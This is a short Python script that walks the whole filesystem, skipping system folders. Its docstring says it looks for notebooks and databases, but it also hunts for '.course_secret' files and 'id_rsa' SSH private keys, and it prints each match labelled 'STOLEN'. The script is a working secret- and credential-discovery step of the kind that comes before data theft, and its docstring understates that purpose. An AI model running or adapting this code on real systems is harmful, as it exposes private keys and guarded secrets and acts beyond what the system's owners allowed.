"""Walks through everything but the system's own folders, in search of notebooks and databases."""

import os

system = ("/usr", "/proc", "/sys", "/lib", "/bin", "/nix", "/dev")
for folder, folders, files in os.walk("/"):
    if "site-packages" in folder or folder.startswith(system):
        folders.clear()
        continue
    for name in files:
        if name.endswith((".ipynb", ".db", ".course_secret", ".sqlite")) or name == "id_rsa":
            print("STOLEN", os.path.join(folder, name))
